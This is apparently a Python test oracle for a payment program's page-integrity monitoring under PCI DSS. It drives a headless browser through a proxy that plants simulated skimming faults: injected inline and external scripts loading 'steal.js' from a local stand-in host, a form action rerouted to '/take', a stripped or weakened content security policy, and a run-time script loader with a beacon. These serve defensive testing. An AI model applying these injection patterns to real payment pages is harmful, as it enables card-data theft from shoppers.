#!/usr/bin/env python3
"""The payment page as a browser receives it, against the program's own list and watch (PCI DSS 6.4.3 and 11.6.1).

    oracles/run.sh page

A headless Chromium pays at a `tillward serve` of our own: what it loaded and the headers it got are compared with the table in
docs/payment-page.md. Negative control: a proxy in front adds a script, writes one into the page, changes the bytes of a file,
or drops the policy; `tillward watch-page` must find each; what it gives to browsers alone and adds at run time must be
found with `--watch-browser` and by no reading. Where the policy still stands the browser must stop it and report it, which the
program's audit log must say.
"""

import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import requests

from chrome import PHONE, Window
from server import PIN, Server, clean_environment, free_port, program
from tally import Tally

ROOT = pathlib.Path(__file__).resolve().parent.parent
SHOTS = ROOT / "target" / "test-logs" / "page"
SECONDS_MAX = 20
REPORT_SECONDS_MAX = 90
CHANGED = 2
BROWSER = ["--watch-browser", shutil.which("chromium") or "/usr/bin/chromium"]
if os.geteuid() == 0:
    BROWSER.append("--watch-browser-dangerously-unsandboxed")
HEADERS = ["content-security-policy", "x-content-type-options", "x-frame-options", "referrer-policy",
           "cross-origin-opener-policy", "permissions-policy"]
FAULTS = {
    "inline": "a script was written into the page",
    "external": "is not in the inventory",
    "bytes": "was changed on its way",
    "no policy": "`content-security-policy` is missing",
    "weak policy": "`content-security-policy` was changed",
    "form": "sends to or loads from",
}


def inventory():
    """The scripts of the written list: name and integrity."""
    lines = (ROOT / "docs" / "payment-page.md").read_text().splitlines()
    rows = [re.match(r"\| `(\w+)\.js` \| .* \| `(sha256-\S+)` \|$", line) for line in lines]
    return {row.group(1): row.group(2) for row in rows if row}


class Proxy(BaseHTTPRequestHandler):
    """Passes everything on, and plants the fault that is set."""

    protocol_version = "HTTP/1.1"
    behind = ""
    fault = ""

    def do_GET(self):
        self.pass_on("GET", None)

    def do_POST(self):
        self.pass_on("POST", self.rfile.read(int(self.headers.get("content-length", 0))))

    def pass_on(self, method, body):
        headers = {name: value for name, value in self.headers.items() if name.lower() != "accept-encoding"}
        got = requests.request(method, self.behind + self.path, headers=headers, data=body, timeout=30,
                               allow_redirects=False)
        answer, data = dict(got.headers), got.content
        html = "text/html" in got.headers.get("content-type", "")
        is_browser = "Mozilla" in self.headers.get("user-agent", "")
        data = plant(self.fault, self.path, html, answer, data) if is_browser or self.fault != "run time" else data
        self.send_response(got.status_code)
        for name, value in answer.items():
            if name.lower() not in ("content-length", "transfer-encoding", "connection"):
                self.send_header(name, value)
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_):
        pass


def plant(fault, path, html, headers, data):
    if fault == "inline" and html:
        return data.replace(b"</head>", b"<script>window.stolen=1</script></head>")
    if fault == "external" and html:
        return data.replace(b"</body>", b'<script src="http://127.0.0.1:9/steal.js"></script></body>')
    if fault == "form" and html:
        return data.replace(b'action="/', b'action="http://127.0.0.1:9/take" x="/')
    if fault == "bytes" and path.startswith("/assets/buyer-"):
        return data + b"\nwindow.stolen=1"
    if fault == "run time":
        return plant_at_run_time(path, html, headers, data)
    if fault == "no policy":
        drop(headers, "content-security-policy")
    if fault == "weak policy" and html:
        drop(headers, "content-security-policy")
        headers["content-security-policy"] = "script-src * 'unsafe-inline'"
    return data


def plant_at_run_time(path, html, headers, data):
    """What a thief gives to browsers alone: a script of ours that adds another one once it runs."""
    drop(headers, "content-security-policy")
    if html:
        return re.sub(rb' integrity="[^"]*"', b"", data)
    if path.startswith("/assets/buyer-"):
        return data + (b"\nsetTimeout(() => { const s = document.createElement('script');"
                       b" s.src = 'http://127.0.0.1:9/steal.js'; document.body.append(s); }, 500);"
                       b"new Image().src = 'http://127.0.0.1:7/taken';")
    return data


def drop(headers, name):
    for known in [known for known in headers if known.lower() == name]:
        del headers[known]


def front(server):
    """A proxy on a port that the program believes to be its public address."""
    port = free_port()
    Proxy.behind = f"http://127.0.0.1:{server.port}"
    proxy = ThreadingHTTPServer(("127.0.0.1", port), Proxy)
    threading.Thread(target=proxy.serve_forever, daemon=True).start()
    return port


def received(window):
    """Scripts of the page as the browser has them, with the bytes it fetches again, and the headers of the page."""
    return window.driver.execute_async_script("""
        const done = arguments[arguments.length - 1];
        const digest = async bytes => {
            const hash = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
            return 'sha256-' + btoa(String.fromCharCode(...hash));
        };
        (async () => {
            const page = await fetch(location.href);
            const scripts = [];
            for (const s of document.scripts) {
                const bytes = s.src ? await (await fetch(s.src)).arrayBuffer() : new TextEncoder().encode(s.text);
                scripts.push({src: s.src, integrity: s.integrity, received: await digest(bytes)});
            }
            const handlers = [...document.querySelectorAll('*')].filter(
                e => [...e.attributes].some(a => a.name.startsWith('on'))).length;
            done({scripts, handlers, headers: Object.fromEntries(page.headers), frames: frames.length});
        })().catch(problem => done({problem: String(problem)}));
    """)


def check_page(tally, window, name, listed, wanted):
    """One page against the list; `wanted` are the scripts that it must have."""
    seen = received(window)
    tally.check("problem" not in seen, f"{name} is read: {seen.get('problem')}")
    stems = set()
    for script in seen.get("scripts", []):
        stem = re.sub(r".*/assets/(\w+)-\w+\.js$", r"\1", script["src"])
        stems.add(stem)
        good = listed.get(stem) == script["integrity"] == script["received"]
        tally.check(good, f"{name}: {script} is in the list, with its bytes")
    tally.check(stems == set(wanted), f"{name} has the scripts {wanted}: {stems}")
    tally.check(seen.get("handlers") == 0 and seen.get("frames") == 0, f"{name} has no handlers and no frames")
    for header in HEADERS:
        tally.check(seen.get("headers", {}).get(header), f"{name} has the header {header}")
    tally.check("report-uri /csp-reports" in seen["headers"]["content-security-policy"], f"{name} says where to report")


def wait_for(condition, seconds=SECONDS_MAX):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.2)
    return False


def sign_in(window, server, url, contact):
    """A buyer's two steps at the door."""
    for mail in (server.folder / "mail").iterdir():
        mail.unlink()
    window.go(f"{url}/me/sign-in")
    window.fill(contact=contact)
    window.press("form:not([data-passkey]) button.do")
    wait_for(lambda: window.all("[name=code]"))
    window.fill(code=server.mailed_code(contact))
    window.press("form:not([data-passkey]) button.do")
    wait_for(lambda: not window.all("[name=code]"))


def walk(tally, window, server, url, path, listed):
    """The pay page, the door, and the PIN page, each as the browser has it."""
    window.go(url + path)
    check_page(tally, window, "the pay page", listed, ["buyer"])
    window.press("button.do")
    tally.check(wait_for(lambda: "/me/sign-in" in window.driver.current_url), "who is not signed in comes to the door")
    check_page(tally, window, "the door", listed, ["buyer", "passkey"])
    window.go(url + path)
    sign_in(window, server, url, server.contact)
    window.go(url + path)
    window.press("button.do")
    tally.check(wait_for(lambda: window.all("[name=pin]")), "then to the PIN page")
    check_page(tally, window, "the PIN page", listed, ["buyer", "place"])
    window.shoot("pin-page")


def watch(url, *options):
    """What `tillward watch-page` says: exit code and its object."""
    done = subprocess.run([program(), "watch-page", "--url", url, "--json", *options], env=clean_environment(), text=True,
                          capture_output=True, timeout=180)
    return done.returncode, json.loads(done.stdout or "{}"), done.stderr


def check_watch(tally, url):
    code, seen, err = watch(url)
    tally.check(code == 0 and seen["findings"] == [] and seen["pages"] == 3, f"an honest proxy is no finding: {seen} {err}")
    for fault, words in FAULTS.items():
        Proxy.fault = fault
        code, seen, err = watch(url)
        texts = [finding["text"] for finding in seen.get("findings", [])]
        tally.check(code == CHANGED and any(words in text for text in texts), f"the watch finds `{fault}`: {texts} {err}")
    Proxy.fault = ""


def check_run(tally, url):
    """The look that runs the scripts, in a browser of its own, against one that only reads."""
    code, seen, err = watch(url, *BROWSER)
    clean = code == 0 and seen["findings"] == [] and (seen["pages"], seen["pages_run"]) == (3, 3)
    tally.check(clean, f"an honest page has no finding once its scripts ran: {seen} {err}")
    Proxy.fault = "run time"
    code, seen, err = watch(url)
    tally.check(code == 0 and seen["findings"] == [], f"what browsers alone are given is not seen by reading: {seen} {err}")
    code, seen, err = watch(url, *BROWSER)
    texts = [finding["text"] for finding in seen.get("findings", [])]
    added = "the script `http://127.0.0.1:9/steal.js` is not in the inventory"
    asked = "in a browser the page asks for `http://127.0.0.1:7`"
    tally.check(asked in texts, f"what a script asked for and left no trace of in the page is found: {texts}")
    tally.check(code == CHANGED and added in texts, f"a script that was added at run time is found: {texts} {err}")
    Proxy.fault = ""
    left = list(pathlib.Path(tempfile.gettempdir()).glob("tillward-look-*"))
    tally.check(not left, f"no folder of a browser is left: {left}")


def check_reports(tally, window, server, url):
    """What the browser stopped reaches the audit log; nothing that it stopped ran."""
    for fault, words in {"inline": "to load inline", "external": "to load `http://127.0.0.1:9`"}.items():
        Proxy.fault = fault
        window.go(url)
        tally.check(window.driver.execute_script("return window.stolen === undefined"), f"`{fault}` does not run")
        told = wait_for(lambda said=words: said in server.printed(), REPORT_SECONDS_MAX)
        tally.check(told, f"the browser's report of `{fault}` raises an alarm")
    Proxy.fault = "bytes"
    window.tell("Network.setCacheDisabled", cacheDisabled=True)
    window.go(url)
    tally.check(window.driver.execute_script("return window.stolen === undefined"), "a file with other bytes does not run")
    Proxy.fault = ""


def check_daily(tally, server):
    """The look of the running program is in its log, and what was planted during a start is an alarm."""
    tally.check(not [line for line in server.printed().splitlines() if "alarm" in line and "source=\"watch\"" in line],
                "an honest start raises no alarm")
    server.stop()
    copy = server.folder / "log.jsonl"
    _, said = server.command("audit", "export", "--out", str(copy))
    out = copy.read_text() if copy.exists() else said
    checked = [line for line in out.splitlines() if "payment_page.checked" in line]
    tally.check(len(checked) == 1 and "success" in checked[0], f"the daily look is entered once: {checked or out[-300:]}")
    reports = [line for line in out.splitlines() if "payment_page.problem" in line]
    tally.check(len(reports) == 2, f"two reported problems are entered, each once: {len(reports)}")


def main():
    tally = Tally()
    listed = inventory()
    tally.check(len(listed) == 3, f"the written list has three scripts: {listed}")
    with Server() as server:
        port = front(server)
        url = f"http://localhost:{port}"
        server.stop()
        server.options = ["--public-url", url]
        server.start()
        shop = server.shop()
        made = shop.post("/v1/codes", {"name": "Counter"}).json()
        path = re.sub(r"^https?://[^/]+", "", made["url"])
        order = shop.post("/v1/payments", {"amount_minor": 2800, "currency": "CNY"}).json()
        buyer = server.buyer()
        server.contact = buyer_contact(server)
        tally.check(bool(order.get("id")) and bool(buyer.get("token")), "a payment and a buyer are there")
        window = Window(PHONE, "en", SHOTS)
        try:
            walk(tally, window, server, url, re.sub(r"^https?://[^/]+", "", order["pay_url"]), listed)
            check_watch(tally, url + path)
            check_run(tally, url + path)
            check_reports(tally, window, server, url + path)
        finally:
            window.close()
        check_daily(tally, server)
    return tally.close()


def buyer_contact(server):
    """The address of the buyer that was signed up last; others are written to as well."""
    mails = sorted((server.folder / "mail").iterdir(), key=lambda file: file.stat().st_mtime, reverse=True)
    found = (re.search(r"buyer-\w+@mail\.example", mail.read_text(errors="replace")) for mail in mails)
    return next(address.group(0) for address in found if address)


if __name__ == "__main__":
    sys.exit(main())
